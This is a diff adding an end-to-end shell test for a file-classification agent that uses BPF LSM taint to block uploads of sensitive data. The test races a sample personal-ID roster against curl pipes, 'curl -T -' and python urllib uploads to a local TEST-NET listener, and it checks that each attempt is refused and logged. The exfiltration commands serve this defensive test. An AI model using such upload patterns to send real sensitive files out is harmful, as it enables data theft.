@@ -1,0 +1,264 @@
+# Issue 14: a read before the learner classifies a file must not get out. With the BPF LSM
+# taint on, a non-upload program's open of a file whose current version the agent has not
+# classified is allowed at once, but before the answer the agent marks the inode pending
+# (a sequence number per version); whoever reads it is pending, pending flows like taint
+# (pipes, fork/exec), and a pending process's connect or send is refused until the learner
+# has classified that version: Class III drops it, Class I/II turns it into taint. The
+# attacker's race, N times: write a Class I file (a My Number roster) and at once
+# `cat f | curl`, `curl -T - <f`, and python3 reading it then connecting: every try is
+# refused, the listener receives nothing, and each refusal is an upload.denied record. A
+# fresh Class III file is sent once the agent has classified it (and a pending one resolves
+# to allowed by itself), so the test fails both ways. With the learner held up (its parser
+# workers stopped) the refusals are "content not yet classified"; Class I content read and
+# then overwritten with Class III content before the learner came is still refused.
+# e2e-timeout: 600
+. "$E2E_SRCDIR/guest/agent.sh"
+fe_setup
+CURL=/usr/bin/curl
+[ -x "$CURL" ] || skip "needs $CURL in the guest (the host's userland; packaging/test-deps.txt)"
+for c in python3 ip; do
+	command -v "$c" >/dev/null || skip "needs $c in the guest"
+done
+mount -t securityfs none /sys/kernel/security 2>/dev/null || true
+grep -qw bpf /sys/kernel/security/lsm ||
+	fail "bpf is not in the guest kernel's LSM list ($(cat /sys/kernel/security/lsm 2>&1)): this scenario must not skip"
+modprobe loop 2>/dev/null || true
+modprobe ext4 2>/dev/null || true
+modprobe dummy 2>/dev/null || true
+
+# NETWORK RULE: the guest has no network backend (no -nic/-netdev in harness.py); only lo and
+# our dummy exist, and the "network" peer is a listener on the dummy's TEST-NET-1 address.
+ip link add fut0 type dummy || fail "cannot add a dummy interface (modprobe dummy)"
+ip addr add 192.0.2.1/24 dev fut0
+ip link set fut0 up
+nets=$(ls /sys/class/net | tr '\n' ' ')
+[ "$nets" = "fut0 lo " ] || fail "the guest has network interfaces besides lo and the dummy: $nets"
+URL=http://192.0.2.1:8080/up
+
+chmod 0755 "$E2E_SCRATCH"
+img=$E2E_SCRATCH/watched.img
+wfs=$E2E_SCRATCH/wfs
+shm=$E2E_SCRATCH/shm
+mkdir -p "$wfs" "$shm"
+truncate -s 64M "$img"
+mkfs.ext4 -q -F "$img" || fail "mkfs.ext4 on $img failed"
+wdev=$(losetup --find --show "$img") || fail "no loop device in the guest"
+FE_ON_EXIT='kill $LPID 2>/dev/null; ip link del fut0 2>/dev/null; fe_stop_agent; umount "$wfs" "$shm" 2>/dev/null; losetup -d "$wdev" 2>/dev/null'
+trap 'fe_exit' EXIT
+mount -t ext4 "$wdev" "$wfs" || fail "cannot mount the ext4 image"
+mount -t tmpfs -o mode=1777 tmpfs "$shm" || fail "cannot mount a tmpfs"
+chmod 0755 "$wfs"
+U=$wfs/hanako
+mkdir -p "$U"
+chown hanako: "$U"
+
+# The "browser": a copy of curl named firefox-test, listed and exempt (name prefix firefox).
+# curl is also in [upload] names (as in the packaged agent.conf): that must not exempt it.
+bin=$E2E_SCRATCH/bin
+mkdir -p "$bin"
+cp "$CURL" "$bin/firefox-test"
+chmod 0755 "$bin" "$bin/firefox-test"
+
+# The listener: appends what each connection sent to $recv, answers 200.
+recv=$E2E_SCRATCH/received
+: >"$recv"
+python3 - "$recv" <<'PY' &
+import socket, sys, threading
+out = sys.argv[1]
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("192.0.2.1", 8080))
+s.listen(32)
+def serve(c):
+    c.settimeout(2.0)
+    data = b""
+    try:
+        while len(data) < 1 << 20:
+            b = c.recv(65536)
+            if not b:
+                break
+            data += b
+    except OSError:
+        pass
+    with open(out, "ab") as f:
+        f.write(data + b"\n--\n")
+    try:
+        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+    except OSError:
+        pass
+    c.close()
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+PY
+LPID=$!
+for ((i = 0; i < 50; i++)); do
+	python3 -c 'import socket; socket.create_connection(("192.0.2.1", 8080), 1).close()' 2>/dev/null && break
+	sleep 0.1
+done
+
+# Before the agent: a fresh Class I file piped to curl is sent (so the later refusals are the
+# agent's).
+e2e_as hanako sh -c "printf '氏名,個人番号\n山田,123456789018\nFRESH-before\n' >'$U/before.csv'; cat '$U/before.csv' | $CURL -s -m 10 -o /dev/null -H Expect: --data-binary @- $URL" ||
+	fail "hanako's curl cannot send to the listener even before futarid runs"
+grep -q "FRESH-before" "$recv" || fail "the listener did not receive the file before futarid ran"
+: >"$recv"
+
+FE_CONF=$FE_ETC/agent-taint-24.conf
+cat "$FE_ETC/agent.conf" - >"$FE_CONF" <<CONF
+
+[upload]
+filesystems = $wfs
+programs = $CURL;$bin/firefox-test
+names = firefox;curl
+CONF
+chmod 0644 "$FE_CONF"
+fe_start_agent
+status() { "$FUTARI" status --json | python3 -c "import json,sys; print(json.load(sys.stdin).get('$1'))"; }
+[ "$(status upload_enforcement)" = bpf-lsm+fanotify ] ||
+	fail "futari status says '$(status upload_enforcement)' ($(status bpf_lsm_reason)), not bpf-lsm+fanotify"
+"$FUTARI" status | grep -q '^enforcement: *BPF LSM process taint and fanotify' ||
+	fail "futari status (text) does not say both layers: $("$FUTARI" status)"
+
+status() { "$FUTARI" status --json | python3 -c "import json,sys; print(json.load(sys.stdin).get('$1'))"; }
+[ "$(status upload_enforcement)" = bpf-lsm+fanotify ] ||
+	fail "futari status says '$(status upload_enforcement)' ($(status bpf_lsm_reason)), not bpf-lsm+fanotify"
+
+denials() { cat "$FE_LOG"/egress-*.jsonl | grep -c '"upload.denied".*bpf-lsm' || true; }
+pendings() { cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | grep -c 'not yet classified' || true; }
+# race NAME N SENDER: as hanako, N times: write a fresh Class I file and at once run SENDER
+# on it ($F in SENDER). Every try must fail, deliver nothing, and be logged.
+race() {
+	local name=$1 n=$2 sender=$3 i rc before
+	for ((i = 0; i < n; i++)); do
+		local F=$U/$name-$i.csv
+		before=$(denials)
+		rc=0
+		e2e_as hanako timeout 60 bash -c "printf '氏名,個人番号\n山田,123456789018\nRACE-$name-$i\n' >'$F'; ${sender//\$F/$F}" \
+			>"$E2E_SCRATCH/$name.out" 2>&1 || rc=$?
+		[ "$rc" -ne 124 ] || fail "$name try $i: hung"
+		[ "$rc" -ne 0 ] || fail "$name try $i: sent (exit 0): $(cat "$E2E_SCRATCH/$name.out")"
+		if grep -q "RACE-$name-$i" "$recv"; then fail "$name try $i: the listener received the file"; fi
+		for ((j = 0; j < 50; j++)); do
+			[ "$(denials)" -gt "$before" ] && break
+			sleep 0.1
+		done
+		[ "$(denials)" -gt "$before" ] || fail "$name try $i: no upload.denied (bpf-lsm) logged"
+	done
+	note "$name: $n of $n tries refused and logged"
+}
+
+N=${E2E_RACE_TRIES:-10}
+C="$CURL -s -m 10 -o /dev/null -H Expect:"
+p0=$(pendings)
+race pipe "$N" "cat '\$F' | $C --data-binary @- $URL"
+race stdin "$N" "$C -T - $URL <'\$F'"
+race python "$N" "python3 -c 'import urllib.request; d=open(\"\$F\",\"rb\").read(); urllib.request.urlopen(\"$URL\", data=d, timeout=10)'"
+p1=$(pendings)
+note "refused as not yet classified: $((p1 - p0)) of $((3 * N)) (the rest: the learner had classified the file before the send, and the pending read became a Class I taint)"
+# The learner held up: the content-parser workers (futari-scan-worker, the agent's
+# children) are stopped, so the learner waits on its next file until the pool's deadline
+# (30 s) and everything behind it stays unclassified meanwhile. Each try is then refused as
+# content not yet classified.
+freeze_scanners() {
+	SCANPIDS=$(pgrep -f futari-scan-worker | tr '\n' ' ')
+	[ -n "$SCANPIDS" ] || fail "no futari-scan-worker to stop"
+	kill -STOP $SCANPIDS
+}
+thaw_scanners() { kill -CONT $SCANPIDS 2>/dev/null || true; }
+freeze_scanners
+race busy 1 "cat '\$F' | $C --data-binary @- $URL"
+race busy-python 1 "python3 -c 'import urllib.request; d=open(\"\$F\",\"rb\").read(); urllib.request.urlopen(\"$URL\", data=d, timeout=10)'"
+thaw_scanners
+p2=$(pendings)
+[ "$p2" -ge $((p1 + 2)) ] ||
+	fail "with the learner held up, $((p2 - p1)) of 2 refusals were for content not yet classified: $(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied"' | tail -n 2 | cut -c1-400)"
+rec=$(fe_log_has '"upload.denied"' bpf-lsm 'not yet classified') || fail "no pending refusal in the log"
+echo "$rec" | grep -F '"classification":"pending"' >/dev/null || fail "the pending refusal does not say so: $rec"
+echo "$rec" | grep -F "$U/" >/dev/null || fail "the pending refusal does not name the file: $rec"
+echo "$rec" | grep -F "\"uid\":$(id -u hanako)" >/dev/null || fail "the pending refusal does not name the uid: $rec"
+[ "$(status taint_pending_set)" -ge 1 ] || fail "futari status counts no pending marks"
+
+# The rewrite race: Class I content read through a pending open, Class III written over it
+# before the learner (held up again) comes. The learner's
+# Class III verdict is on the new version: it must not resolve the number the read carries,
+# which ends Class II. The reader sends only once the learner is idle (no pending left), so
+# the refusal is a taint, not "not yet classified".
+R=$U/rewrite.csv
+flag=$shm/learner-idle
+rm -f "$flag" "$flag.rewritten"
+freeze_scanners
+e2e_as hanako timeout 300 python3 -c '
+import os, sys, time, urllib.request
+f, url, flag = sys.argv[1:4]
+with open(f, "w") as w:
+    w.write("氏名,個人番号\n山田,123456789018\nREWRITE-DATA\n")
+d = open(f, "rb").read()
+with open(f, "w") as w:
+    w.write("lunch menu, nothing personal, a little longer than before\n")
+open(flag + ".rewritten", "w").close()
+while not os.path.exists(flag):
+    time.sleep(0.2)
+try:
+    urllib.request.urlopen(url, data=d, timeout=10)
+    print("sent")
+except Exception as e:
+    print("refused:", e)
+    sys.exit(1)' "$R" "$URL" "$flag" >"$E2E_SCRATCH/rewrite.out" 2>&1 &
+RPID=$!
+for ((j = 0; j < 300; j++)); do [ -e "$flag.rewritten" ] && break; sleep 0.1; done
+[ -e "$flag.rewritten" ] || fail "rewrite race: the reader did not get to rewrite the file"
+thaw_scanners
+# Idle: no new verdict for 8 s in a row (one large file takes the learner a while).
+last=-1
+still=0
+for ((j = 0; j < 280; j++)); do
+	now=$(status taint_resolved)
+	if [ "$now" = "$last" ]; then still=$((still + 1)); else still=0; fi
+	[ "$still" -ge 8 ] && break
+	last=$now
+	sleep 1
+done
+touch "$flag"
+rc=0
+wait "$RPID" || rc=$?
+[ "$rc" -ne 0 ] || fail "rewrite race: the Class I content read before the rewrite was sent: $(cat "$E2E_SCRATCH/rewrite.out")"
+if grep -q REWRITE-DATA "$recv"; then fail "rewrite race: the listener received the content"; fi
+rec=$(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | tail -n 1)
+echo "$rec" | grep -F 'not yet classified' >/dev/null &&
+	fail "rewrite race: refused only as not yet classified (the learner was not done): $rec"
+note "rewrite race: refused as a taint: $(echo "$rec" | grep -o '"class":"[^"]*"')"
+
+# After the learner: the same content is Class I, an ordinary taint (so the pending above
+# was not a refusal of everything).
+F=$U/pipe-0.csv
+before=$(denials)
+rc=0
+e2e_as hanako timeout 60 bash -c "cat '$F' | $C --data-binary @- $URL" >/dev/null 2>&1 || rc=$?
+[ "$rc" -ne 0 ] || fail "the classified Class I file was sent"
+for ((j = 0; j < 50; j++)); do [ "$(denials)" -gt "$before" ] && break; sleep 0.1; done
+rec=$(cat "$FE_LOG"/egress-*.jsonl | grep '"upload.denied".*bpf-lsm' | tail -n 1)
+echo "$rec" | grep -F 'pipe-0.csv' | grep -F '"I"' >/dev/null ||
+	fail "after classification the refusal is not a Class I taint naming the file: $rec"
+
+# A fresh Class III file: once classified it is sent (the pending resolves, nothing stays).
+G=$U/notes.txt
+e2e_as hanako sh -c "printf 'lunch menu FRESH-III-DATA\n' >'$G'"
+resolved=$(status taint_resolved)
+e2e_as hanako cat "$G" >/dev/null
+for ((j = 0; j < 100; j++)); do [ "$(status taint_resolved)" -gt "$resolved" ] && break; sleep 0.1; done
+[ "$(status taint_resolved)" -gt "$resolved" ] || fail "the agent never resolved the Class III file's pending mark"
+e2e_as hanako timeout 60 bash -c "cat '$G' | $C --data-binary @- $URL" >"$E2E_SCRATCH/iii.out" 2>&1 ||
+	fail "a classified Class III file was refused: $(cat "$E2E_SCRATCH/iii.out") $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
+grep -q FRESH-III-DATA "$recv" || fail "the listener did not receive the Class III file"
+: >"$recv"
+# Raced too: written and piped at once, it may be refused while pending, but a process that
+# read it while it was pending can send once the agent has classified it (no retry of the read).
+H=$U/menu.txt
+rc=0
+e2e_as hanako timeout 60 bash -c "printf 'dinner FRESH-III-RACE\n' >'$H'; cat '$H' | { d=\$(cat); for i in \$(seq 50); do printf '%s' \"\$d\" | $C --data-binary @- $URL && exit 0; sleep 0.2; done; exit 1; }" \
+	>"$E2E_SCRATCH/iii-race.out" 2>&1 || rc=$?
+# The retrying shell read the pipe while pending: its retries pass once resolved.
+[ "$rc" -eq 0 ] || fail "a pending reader of a Class III file never got to send: $(cat "$E2E_SCRATCH/iii-race.out")"
+grep -q FRESH-III-RACE "$recv" || fail "the listener did not receive the raced Class III file"
+note "taint: pending marks $(status taint_pending_set), pending reads $(status taint_pending_read), resolved $(status taint_resolved), overflow $(status taint_pending_overflow)"
